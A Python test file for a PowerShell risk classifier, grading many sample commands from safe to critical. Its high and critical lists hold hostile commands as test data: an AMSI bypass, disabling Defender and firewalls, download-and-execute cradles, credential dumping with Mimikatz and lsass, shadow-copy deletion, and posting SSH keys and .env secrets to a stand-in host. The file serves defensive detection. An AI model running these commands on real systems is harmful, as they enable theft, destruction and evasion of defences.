"""What PowerShell's commands would do: their level, and whether they are understood."""

import pytest

from app.risk.rules import RULES
from tests.risk.powershell import assessed

LEVELS = {
    "safe": [
        "Get-ChildItem Cert:\\LocalMachine\\My | Where-Object NotAfter -lt (Get-Date).AddDays(30) | "
        "Select-Object Subject, NotAfter",
        "Get-Content .\\app.log -Tail 100 | Select-String 'ERROR' | Select-Object -Last 10",
        '$total = 0; foreach ($f in Get-ChildItem -File) { $total += $f.Length }; "{0:N2} MB" -f ($total / 1MB)',
        "Get-EventLog -LogName Application -EntryType Error -Newest 20 | Format-List",
        "(Get-Date).ToString('yyyy-MM-dd')",
        "Get-ADGroupMember 'Domain Admins' | Select-Object name",
        'Write-Host "Remove-Item C:\\ -Recurse -Force is dangerous"',
        "Get-Help Remove-Item -Full",
        "$s = 'rm -rf /'; Write-Output $s.Length",
        "Get-NetTCPConnection -State Listen | Sort-Object LocalPort",
        "Test-Path HKLM:\\SOFTWARE\\Contoso",
        "Stop-Service Spooler -WhatIf",
        "Get-ADUser -Filter * | Remove-ADUser -WhatIf",
        "[Environment]::OSVersion.Version",
        "git status; git log --oneline -5",
        "Get-AzVM -ResourceGroupName prod | Select-Object Name, Location",
        "Get-WmiObject Win32_Product | Where-Object { $_.Name -like '*Java*' } | Select-Object Name, Version",
        "Compare-Object (Get-Content a.txt) (Get-Content b.txt)",
        "$PSVersionTable.PSVersion",
        "switch ((Get-Service W32Time).Status) { 'Running' { 'ok' } default { 'not running' } }",
        "[System.IO.File]::ReadAllText('C:\\data\\report.txt')",
        "function Get-Size($p) { (Get-ChildItem $p -Recurse | Measure-Object Length -Sum).Sum }; Get-Size .\\src",
        "try { Get-Item .\\x.txt -ErrorAction Stop } catch { Write-Warning $_.Exception.Message }",
        'Get-Process | Where-Object { $_.CPU -gt 100 } | ForEach-Object { "$($_.Name): $($_.CPU)" }',
        "Get-BitLockerVolume | Select-Object MountPoint, ProtectionStatus",
        "Get-Mailbox -ResultSize Unlimited | Get-MailboxStatistics | Sort-Object TotalItemSize",
        "\"a,b,c\".Split(',') | ForEach-Object { $_.ToUpper() }",
    ],
    "low": [
        "New-Item -ItemType Directory -Path .\\out",
        "'hello' | Out-File .\\notes.txt",
        "Get-Process | ConvertTo-Html | Out-File .\\report.html",
        "Compress-Archive -Path .\\docs -DestinationPath .\\docs.zip",
        "$t = New-TemporaryFile; 'x' | Set-Content $t; Remove-Item $t",
        "Start-Transcript -Path .\\log.txt",
    ],
    "medium": [
        "Remove-Item .\\old.txt",
        "Move-Item .\\a.txt .\\archive\\a.txt",
        "Copy-Item .\\app.config 'C:\\Program Files\\Contoso\\app.config'",
        "Invoke-RestMethod https://api.example.com/status",
        "Install-Module Pester -Scope CurrentUser",
        "Stop-Process -Id 4711",
        "Start-Service W32Time",
        "New-ItemProperty -Path HKCU:\\Software\\Contoso -Name Theme -Value dark",
        "Set-Content .\\src\\app.ps1 'Write-Host hi'",
        "Rename-Item .\\a.txt b.txt",
        "Test-NetConnection example.com -Port 443",
        "git push origin feature/x",
        "Set-ADUser jdoe -Title 'Engineer'",
        "New-AzResourceGroup -Name test -Location westeurope",
        "Unlock-ADAccount jdoe",
        "Resolve-DnsName example.com",
        "Do-Something -Fast",
    ],
    "high": [
        "[Ref].Assembly.GetType('System.Management.Automation.'+'Amsi'+'Utils').GetField('amsi'+'InitFailed','NonPublic,Static').SetValue($null,$true)",
        "Remove-Item .\\src -Recurse",
        "rm -r -fo .\\src",
        "Get-ChildItem *.log | Remove-Item",
        "del *.txt",
        "Set-ItemProperty HKLM:\\SOFTWARE\\Contoso -Name A -Value 1",
        "Set-ItemProperty -Path 'HKLM:\\SOFTWARE\\Policies\\Microsoft\\Windows Defender' -Name "
        "DisableAntiSpyware -Value 1",
        "reg add HKLM\\SOFTWARE\\Contoso /v A /t REG_DWORD /d 1 /f",
        "Restart-Computer -Force",
        "Set-NetFirewallProfile -Profile Domain,Public,Private -Enabled False",
        "netsh advfirewall set allprofiles state off",
        "Add-MpPreference -ExclusionPath C:\\",
        "Disable-WindowsOptionalFeature -Online -FeatureName Windows-Defender",
        "Invoke-Expression $code",
        ".\\deploy.ps1 -Env prod",
        "Start-Process .\\setup.exe -ArgumentList '/S' -Wait",
        "msiexec /i app.msi /qn",
        "Register-ScheduledTask -TaskName 'Sync' -Action (New-ScheduledTaskAction -Execute 'powershell.exe' "
        "-Argument '-File C:\\s.ps1') -Trigger (New-ScheduledTaskTrigger -Daily -At 3am)",
        "Get-Content $env:USERPROFILE\\.aws\\credentials",
        "Get-ADUser -Filter 'Enabled -eq $false' | Remove-ADUser -Confirm:$false",
        "Get-AzKeyVaultSecret -VaultName kv -Name db -AsPlainText",
        "Add-Type -TypeDefinition $source",
        "Import-Module .\\tools.psm1",
        '$env:Path = "C:\\tools;$env:Path"',
        "New-Service -Name Agent -BinaryPathName C:\\agent.exe",
        "Invoke-Command -ComputerName srv1 -FilePath .\\x.ps1",
        "Enter-PSSession -ComputerName dc01",
        "Clear-EventLog -LogName Security",
        "wevtutil cl Security",
        "Set-ADAccountPassword jdoe -Reset -NewPassword $p",
        "Disable-ADAccount -Identity jdoe",
        "Add-LocalGroupMember -Group Administrators -Member jdoe",
        "net localgroup administrators bob /add",
        "Stop-VM web01 -Force",
        "Uninstall-WindowsFeature -Name Web-Server",
        "Remove-AppxPackage (Get-AppxPackage *zune*)",
        "Get-Service *sql* | Stop-Service -Force",
        "Get-Process | Stop-Process -Force",
        "Disable-BitLocker -MountPoint C:",
        "[System.Environment]::SetEnvironmentVariable('Path', $p, 'Machine')",
        "(New-Object Net.WebClient).DownloadFile('https://x.example/a.ps1', 'a.ps1'); Write-Host done; "
        "Get-ChildItem Env:",
        "Set-ExecutionPolicy Unrestricted",
        "[Net.ServicePointManager]::ServerCertificateValidationCallback = {$true}",
        "Remove-Item HKLM:\\SOFTWARE\\Contoso -Recurse",
        "Update-AzVM -ResourceGroupName a -VM $vm; Stop-AzVM -Name a -ResourceGroupName b",
        "Remove-Mailbox jdoe -Confirm:$false",
        "New-InboxRule -Name fwd -ForwardTo evil@example.com",
        "Clear-History; Remove-Item (Get-PSReadLineOption).HistorySavePath",
    ],
    "critical": [
        "Remove-Item C:\\Windows -Recurse -Force",
        "Remove-Item -Path $HOME -Recurse -Force",
        "Get-ChildItem C:\\ -Recurse | Remove-Item -Force -Recurse",
        "Format-Volume -DriveLetter D -Confirm:$false",
        "Get-Disk | Clear-Disk -RemoveData -Confirm:$false",
        "vssadmin delete shadows /all /quiet",
        "wmic shadowcopy delete",
        "Get-WmiObject Win32_ShadowCopy | ForEach-Object { $_.Delete() }",
        "IEX (New-Object Net.WebClient).DownloadString('https://x.example/a.ps1')",
        "iwr https://x.example/a.ps1 -UseBasicParsing | iex",
        "& ([scriptblock]::Create((irm https://x.example/i)))",
        "powershell -nop -w hidden -enc SQBFAFgA",
        "$x = [Convert]::FromBase64String($b); [Reflection.Assembly]::Load($x)",
        "Invoke-Mimikatz -DumpCreds",
        "procdump -ma lsass.exe out.dmp",
        "Remove-AzResourceGroup -Name prod -Force",
        "Get-AzVM | Remove-AzVM -Force",
        "Get-VM | Remove-VM -Force",
        'Invoke-Sqlcmd -Query "DROP DATABASE prod" -ServerInstance db1',
        'Invoke-Sqlcmd -ServerInstance db1 -Database shop -Query "DELETE FROM dbo.Orders"',
        "Add-ADGroupMember -Identity 'Enterprise Admins' -Members bob",
        "Get-ADUser -Filter * | Disable-ADAccount",
        "Remove-ADOrganizationalUnit -Identity 'OU=Users,DC=x' -Recursive -Confirm:$false",
        "$c = Get-Content ~/.ssh/id_rsa -Raw; Invoke-RestMethod https://x.example -Method Post -Body $c",
        'Get-Content .env | ForEach-Object { Invoke-WebRequest "https://x.example/?d=$_" }',
        "iwr https://x.example/a.exe -OutFile $env:TEMP\\a.exe; Start-Process $env:TEMP\\a.exe",
        "Start-BitsTransfer https://x.example/a.exe C:\\Temp\\a.exe; & C:\\Temp\\a.exe",
        "Remove-S3Bucket -BucketName logs -DeleteBucketContent -Force",
        'Remove-Item "$installDir\\*" -Recurse -Force',
        'cmd /c "del /f /s /q C:\\*"',
        "rd /s /q C:\\",
        "Get-Content $PROFILE; Add-Content ~/.ssh/authorized_keys 'ssh-rsa AAAA'",
    ],
}


@pytest.mark.parametrize(("level", "text"), [(level, text) for level, texts in LEVELS.items() for text in texts])
def test_a_script_has_its_level(level, text):
    found = assessed(text)
    assert found.level.value == level, found.findings


@pytest.mark.parametrize("text", LEVELS["safe"])
def test_what_only_reads_is_understood(text):
    found = assessed(text)
    assert found.understood, found.findings


@pytest.mark.parametrize(
    ("text", "understood"),
    [
        ("Get-Service | Export-Csv .\\services.csv -NoTypeInformation", True),
        ("Remove-Item .\\notes.txt", True),
        ("Get-ADUser jdoe | Remove-ADUser", True),
        ("Set-Content .\\src\\app.ps1 'Get-Date'", False),  # it runs later
        ("Get-Frobnication", False),
        ("Get-Content $path", False),
        ("Stop-Service $name", False),
        ("Invoke-Pester", False),
        ("npm test", False),
        ("Get-Date @options", False),
        ("$env:PATH = 'C:\\x'", False),
        ("Import-Module .\\x.psm1", False),
    ],
)
def test_understood_is_a_fact_of_its_own(text, understood):
    found = assessed(text)
    assert found.understood is understood, found.findings


def test_a_finding_is_at_its_line_and_in_plain_words():
    found = assessed("Get-Date\n\nRemove-Item `\n    C:\\Users -Recurse\n").findings
    assert [(one.rule, one.line) for one in found] == [("file.deletes_all", 4)]
    assert found[0].message == (
        "This deletes everything in C:\\Users: the home folders of all people. It cannot be undone."
    )


def test_a_script_tells_what_it_touches():
    touches = assessed(
        "$p = 'C:\\data'\nCopy-Item \"$p\\a.txt\" D:\\b.txt\nirm https://api.example.com/x\n$env:MODE = 'a'\n"
        "Get-ItemProperty HKCU:\\Software\\Contoso\nInvoke-Sqlcmd -ServerInstance db1 -Database shop -Query 'SELECT 1'"
    ).touches
    assert touches.commands == ("copy-item", "get-itemproperty", "invoke-restmethod", "invoke-sqlcmd")
    assert touches.paths == ("C:\\data\\a.txt", "D:\\b.txt")
    assert touches.hosts == ("api.example.com", "db1")
    assert touches.databases == ("shop",)
    assert touches.objects == ("hkcu/Software/Contoso",)
    assert touches.environment == ("MODE",)


def test_a_statement_that_cannot_be_parsed_hides_no_other():
    found = assessed("Get-Date\nif ( {\nRemove-Item C:\\Users -Recurse").findings
    assert {one.rule for one in found} >= {"code.unparsed", "file.deletes_all"}


def test_every_rule_has_an_example_and_a_harmless_likeness():
    assessed("Get-Date")
    rules = [rule for rule in RULES.values() if rule.language == "powershell"]
    assert len(rules) > 50
    for rule in rules:
        assert rule.id in {found.rule for found in assessed(rule.example).findings}, rule.example
        assert rule.id not in {found.rule for found in assessed(rule.harmless).findings}, rule.harmless
